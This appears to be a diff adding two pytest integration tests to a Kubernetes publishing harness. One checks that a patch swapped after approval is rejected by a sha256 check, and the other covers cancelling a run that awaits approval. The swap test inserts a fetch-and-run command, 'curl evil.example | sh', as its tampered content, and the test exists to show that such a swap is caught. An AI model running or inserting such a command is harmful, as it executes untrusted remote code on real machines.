@@ -146,3 +146,41 @@ def test_a_change_nobody_decides_on_times_out(publishing: Publishing, runs: Runs
     assert "approval" in status and "decision" not in status["approval"]
     assert "harness/late" not in publishing.server.branches(OWNER_REPO)
     print(f"\nmeasured: timed out {time.monotonic() - started:.1f}s after AwaitingApproval was seen (15s)")
+
+
+def test_a_kept_patch_edited_before_the_approval_is_not_pushed(
+    publishing: Publishing, runs: Runs, kube: client.ApiClient
+) -> None:
+    """The changes ConfigMap is in the tenant's namespace: anyone who may edit it could swap the change an
+    approver saw. The publish pod checks the patch's sha256 and the tree against the run's status."""
+    publishing.create("swap", "printf 'reviewed\\n' > README.md", publish=approval_publish(publishing))
+    status = wait_awaiting(runs, "swap")
+    name = status["changes"]["patchConfigMapName"]
+    patch = runs.core.read_namespaced_config_map(name, runs.ns).data["changes.patch"]
+    swapped = patch.replace("+reviewed", "+curl evil.example | sh")
+    runs.core.patch_namespaced_config_map(name, runs.ns, {"data": {"changes.patch": swapped}})
+
+    decide(runs, whoami(kube), "swap", "Approved")
+    status = runs.wait_finished("swap")
+
+    assert (status["phase"], status["reason"]) == ("Failed", "KeptChangeMismatch"), publishing.describe(
+        "swap"
+    )
+    assert "sha256" in status["message"]
+    assert "harness/swap" not in publishing.server.branches(OWNER_REPO)
+    assert not publishing.forge.pull_requests()
+
+
+def test_a_cancel_while_awaiting_ends_the_run_and_publishes_nothing(
+    publishing: Publishing, runs: Runs
+) -> None:
+    publishing.create("stop", "printf 'never mind\\n' > README.md", publish=approval_publish(publishing))
+    wait_awaiting(runs, "stop")
+
+    runs.patch("stop", {"cancel": True})
+    status = runs.wait_finished("stop")
+
+    assert (status["phase"], status["reason"]) == ("Cancelled", "Cancelled"), runs.describe("stop")
+    assert "nothing is pushed" in status["message"]
+    assert "harness/stop" not in publishing.server.branches(OWNER_REPO)
+    assert runs.jobs("stop") == []
